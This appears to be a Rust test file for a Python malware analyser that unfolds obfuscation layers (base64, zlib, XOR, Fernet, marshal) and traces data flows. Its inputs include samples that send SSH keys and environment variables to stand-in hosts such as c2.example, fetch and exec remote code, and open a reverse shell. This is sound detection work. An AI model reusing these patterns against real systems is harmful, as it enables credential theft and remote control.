//! What folds, what is seen, and how data flows.

use super::*;

#[test]
fn base64_and_zlib_layers_open() {
    // zlib of `import os\nos.system("echo inert")\n`, in base64, twice wrapped.
    let inner = "import os\nos.system('echo inert')\n";
    let text = format!(
        "import base64, zlib\nfrom base64 import b64decode as d\nexec(zlib.decompress(d({:?})))\n",
        zlib_base64(inner.as_bytes())
    );
    let found = runs(&text, "echo inert");
    assert_eq!(found.layers[0].how, ["base64", "zlib", "eval"]);
    flows(&found, Action::DataDecode, Action::CodeEval);
    let outer = format!(
        "_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n",
        reversed(&zlib_base64(inner.as_bytes()))
    );
    runs(&outer, "echo inert");
    // Three layers of it.
    let mut layered = inner.to_owned();
    for _ in 0..3 {
        let blob = reversed(&zlib_base64(layered.as_bytes()));
        layered = format!(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{blob}'))\n"
        );
    }
    runs(&layered, "echo inert");
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

/// Stored zlib blocks, so that no compressor is needed here.
fn zlib_base64(data: &[u8]) -> String {
    let mut out = vec![0x78, 0x01];
    let blocks: Vec<&[u8]> = data.chunks(65_535).collect();
    for (at, block) in blocks.iter().enumerate() {
        out.push(u8::from(at + 1 == blocks.len()));
        out.extend((block.len() as u16).to_le_bytes());
        out.extend((!(block.len() as u16)).to_le_bytes());
        out.extend_from_slice(block);
    }
    let (mut a, mut b) = (1u32, 0u32);
    for byte in data {
        a = (a + u32::from(*byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    out.extend((b << 16 | a).to_be_bytes());
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    out.chunks(3)
        .flat_map(|three| {
            let bits = three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
            (0..4).map(
                move |at| {
                    if at > three.len() { '=' } else { char::from(alphabet[(bits >> (18 - 6 * at) & 63) as usize]) }
                },
            )
        })
        .collect()
}

#[test]
fn an_xor_loop_folds() {
    let plain = "import os;os.system('echo inert')";
    let hidden: Vec<String> = plain.bytes().map(|byte| (byte ^ 42).to_string()).collect();
    let list = hidden.join(", ");
    runs(&format!("d = [{list}]\ns = ''\nfor c in d:\n    s += chr(c ^ 42)\nexec(s)\n"), "echo inert");
    runs(&format!("exec(''.join(chr(c ^ 42) for c in [{list}]))\n"), "echo inert");
    runs(&format!("exec(bytes(c ^ 42 for c in bytes([{list}])).decode())\n"), "echo inert");
    runs(&format!("exec(''.join(map(lambda c: chr(c ^ 42), ({list}))))\n"), "echo inert");
    let text = format!(
        "from itertools import cycle\nk = b'*'\ndef x(d, k):\n    return bytes(a ^ b for a, b in zip(d, cycle(k)))\neval(compile(x(bytes([{list}]), k), 's', 'exec'))\n"
    );
    runs(&text, "echo inert");
    let text = format!("d = bytearray([{list}])\nfor i in range(len(d)):\n    d[i] ^= 42\nexec(bytes(d))\n");
    runs(&text, "echo inert");
}

#[test]
fn letters_put_together_fold() {
    runs("import os\nos.system(chr(105) + chr(100))\n", "id");
    runs("import os\nos.system(''.join([chr(x) for x in [105, 100]]))\n", "id");
    runs("import os\nos.system(''.join(reversed('di')))\n", "id");
    runs("import os\nos.system('%s%s' % ('i', 'd'))\n", "id");
    runs("import os\nos.system('{1}{0}'.format('d', 'i'))\n", "id");
    runs("import os\nos.system(f'{105:c}d')\n", "id");
    runs("import os\nos.system('xixd'.replace('x', ''))\n", "id");
    runs("import os\nos.system(bytes.fromhex('6964').decode())\n", "id");
    runs("import os\nos.system('\\x69\\x64')\n", "id");
    runs("import os\nos.system('vq'.translate(str.maketrans('vq', 'id')))\n", "id");
    runs("import os, codecs\nos.system(codecs.decode('vq', 'rot13'))\n", "id");
    runs("import os\nos.system((26980).to_bytes(2, 'big').decode())\n", "id");
    runs("import os\nos.system(int('6964', 16).to_bytes(2, 'big').decode())\n", "id");
    runs("import os\nos.system((0x6563686f20696e6572742e2e2e).to_bytes(13, 'big').decode())\n", "echo inert...");
    runs("import os\nos.system(bytes.fromhex(hex(0x6563686f20696e6572742e2e2e)[2:]).decode())\n", "echo inert...");
    runs("from functools import reduce\nimport os\nos.system(reduce(lambda a, b: a + b, ['i', 'd']))\n", "id");
    runs("import os\nos.system(oct.__str__()[2] + 'd'[0])\n", "ud");
    runs("import os\nos.system(str(bytes('id', 'utf-8'), 'utf-8'))\n", "id");
}

#[test]
fn hidden_names_resolve() {
    let eval = |text: &str| {
        let found = seen(text);
        assert!(
            find(&found, Action::ProcExec).iter().any(|one| one.object.text == "id"),
            "{text}\n{}",
            describe(&found)
        );
    };
    eval("getattr(__import__('builtins'), 'ex' + 'ec')(\"__import__('os').system('id')\")\n");
    eval("__import__('o' + 's').__dict__['sys' + 'tem']('id')\n");
    eval("globals()['__builtins__'].exec('import os; os.system(\"id\")')\n");
    eval("e = eval('exec')\ne('import os; os.system(\"id\")')\n");
    eval("from os import system as s\ns('id')\n");
    eval("import importlib\nimportlib.import_module('subprocess').run('id', shell=True)\n");
    eval("𝘦𝘷𝘢𝘭('__import__(\"os\").system(\"id\")')\n");
}

#[test]
fn packers_that_hide_behind_globals_open() {
    // A class keeps the payload in `globals()`, and `eval` of text yields the names.
    runs(
        "import os\nG = globals\nclass A:\n  def put(k=1, v=2, g=G):\n    g()[k] = v\n  def get(k=str):\n    return G()[k]\nA.put(k='x', v='import os; os.system(')\nA.put(k='y', v='\"id\")')\neval(\"__import__('builtins').exec\")(A.get(k='x') + A.get(k='y'))\n",
        "id",
    );
    // `marshal` of a text.
    runs("import marshal\nexec(marshal.loads(b'u\\x1b\\x00\\x00\\x00import os; os.system(\"id\") #'))\n", "id");
}

#[test]
fn a_module_that_nobody_imported_is_known_by_its_name() {
    let found = seen("from common import *\nexec(requests.get('https://c2.example/x').text)\n");
    flows(&found, Action::NetFetch, Action::CodeEval);
}

#[test]
fn what_is_written_to_a_script_is_read() {
    let found = seen("f = open('/tmp/a.py', 'w')\nf.write('import os; os.system(\"id\")')\nf.close()\n");
    assert!(find(&found, Action::ProcExec).iter().any(|one| one.object.text == "id"), "{}", describe(&found));
}

#[test]
fn hostile_folds_stay_within_the_budget() {
    on_big_stack(|| {
        for text in [
            "l = []\nl.append(l)\nl.append(l)\nprint(str(l), repr(l), sorted([l, l]), max(l, l))\nimport json\njson.dumps(l)\n",
            "s = 'ab' * 100000\nwhile True:\n  s = s.replace('a', 'aaaaaaaaaaaaaaaa')\n",
            "l = list(range(200000))\nit = iter(l)\nwhile l:\n  next(it)\n",
            "x = int('9' * 8000)\nfor i in range(200000):\n  x.to_bytes(4000, 'big')\n",
            "d = b'x' * 1000000\nimport hashlib\nfor i in range(100000):\n  hashlib.sha256(d).digest()\n",
            "print('x' * 100000 % (), '{:>99999999999}'.format(1), '%99999999d' % 1, 'x'.zfill(10 ** 12), 2 ** 10000)\n",
            "x = list(enumerate([1, 2], 9223372036854775807))\nrange(9223372036854775807, -9223372036854775807, -1)\n",
        ] {
            seen(text);
        }
    });
}

#[test]
fn a_loop_that_changes_nothing_leaves_the_budget_alone() {
    let text = "import os\nr = b''\nwhile r != b'x':\n  f(r)\nos.system(''.join(map(chr, [105, 100])))\n";
    let found = behaviours(Language::Python, "a.py", text, Budget { steps: 20_000, ..Budget::default() }).value;
    assert!(find(&found, Action::ProcExec).iter().any(|one| one.object.text == "id"), "{}", describe(&found));
}

#[test]
fn fernet_opens() {
    // Made with the key and the plain text below; the time stamp is 2026-01-01.
    let key = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
    let token = TOKEN;
    let text = format!("from cryptography.fernet import Fernet\nexec(Fernet(b'{key}').decrypt(b'{token}'))\n");
    runs(&text.replace("cryptography.fernet", "fernet"), "echo inert");
    let found = runs(&text, "echo inert");
    flows(&found, Action::DataDecrypt, Action::CodeEval);
    assert_eq!(found.layers[0].how, ["fernet", "eval"]);
}

const TOKEN: &str = "gAAAAABpVbkAEBESExQVFhcYGRobHB0eH3RGIgdYbWDqRCtM9776UQTMOvh06wXc73T4QMDyxaWjN38Ri5LpyKi1Bx7y0CJ-VOYS2dP_dGP5eu3Tw2PiwKcV0OmM_ItcYkt7mpq3lJHi";

#[test]
fn paths_keep_what_is_known() {
    let found = seen(
        "import os\np = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage')\nfor f in os.listdir(p):\n  open(p + '/' + f).read()\n",
    );
    let list = find(&found, Action::FileList);
    assert_eq!(list[0].object.text, "{}/discord/Local Storage");
    assert_eq!(find(&found, Action::FileRead)[0].object.text, "{}/discord/Local Storage/{}");
    let found = seen(
        "import os\nfrom pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nPath('/etc/passwd').read_bytes()\nopen(os.path.expanduser('~/.aws/credentials'))\n",
    );
    let read: Vec<&str> = find(&found, Action::FileRead).iter().map(|one| one.object.text.as_str()).collect();
    assert_eq!(read, ["~/.ssh/id_rsa", "/etc/passwd", "~/.aws/credentials"]);
}

#[test]
fn what_is_read_flows_to_where_it_is_sent() {
    let found = seen("import os, requests\nrequests.post('https://c2.example/x', json=dict(os.environ))\n");
    flows(&found, Action::EnvReadAll, Action::NetSend);
    let found = seen(
        "import os\nfrom urllib.request import Request, urlopen\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurlopen(Request('https://c2.example', data=d.encode()))\n",
    );
    flows(&found, Action::FileRead, Action::NetSend);
    let found = seen(
        "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nimport subprocess\nwhile True:\n  c = s.recv(1024)\n  s.send(subprocess.check_output(c, shell=True))\n",
    );
    flows(&found, Action::NetReceive, Action::ProcExec);
    flows(&found, Action::ProcExec, Action::NetSend);
    let found = seen("import requests\nexec(requests.get('https://c2.example/a.py').text)\n");
    flows(&found, Action::NetFetch, Action::CodeEval);
    let found = seen(
        "import urllib.request, os\nurllib.request.urlretrieve('https://c2.example/a.exe', '/tmp/a.exe')\nos.startfile('/tmp/a.exe')\n",
    );
    flows(&found, Action::NetFetch, Action::FileWrite);
    flows(&found, Action::FileWrite, Action::ProcExec);
}

#[test]
fn a_session_is_its_module() {
    let found = seen(
        "import aiohttp\nasync def f(t):\n  async with aiohttp.ClientSession() as s:\n    async with s.post('https://c2.example', json={'t': t}) as r:\n      exec(await r.text())\n",
    );
    assert_eq!(find(&found, Action::NetSend)[0].object.text, "https://c2.example");
    flows(&found, Action::NetSend, Action::CodeEval);
    let found = seen("import requests\ns = requests.Session()\ns.get('https://c2.example')\n");
    assert_eq!(find(&found, Action::NetFetch)[0].api, "requests.get");
}

#[test]
fn circumstances_are_noted() {
    let found = seen(
        "import subprocess\nsubprocess.Popen(['powershell', '-enc', 'x'], creationflags=0x08000000, stdout=subprocess.DEVNULL, shell=True)\n",
    );
    let exec = find(&found, Action::ProcExec)[0];
    for flag in ["shell", "silenced", "hidden-window"] {
        assert!(exec.has(flag), "{flag} {:?}", exec.flags);
    }
    assert_eq!(exec.object.text, "powershell -enc x");
}

#[test]
fn generators_slices_and_handed_on_functions_are_followed() {
    let seen = seen(
        "import os, threading, requests, base64\n\
         def find():\n    for root, _, files in os.walk('/'):\n        for name in files:\n            yield os.path.join(root, name)\n\
         for path in find():\n    requests.post('http://a.example/', data=open(path).read())\n\
         parts = 'api.vendor.example'.split('.')\nparts[1:] = ['collector', 'example']\n\
         requests.get('https://' + '.'.join(parts))\n\
         threading.Thread(target=os.system, args=[base64.b64decode('d2hvYW1p').decode()]).start()\n",
    );
    let objects: Vec<&str> = seen.behaviours.iter().map(|one| one.object.text.as_str()).collect();
    assert!(objects.contains(&"{}/{}"), "{objects:?}");
    assert!(objects.contains(&"https://api.collector.example"), "{objects:?}");
    assert!(objects.contains(&"whoami"), "{objects:?}");
}
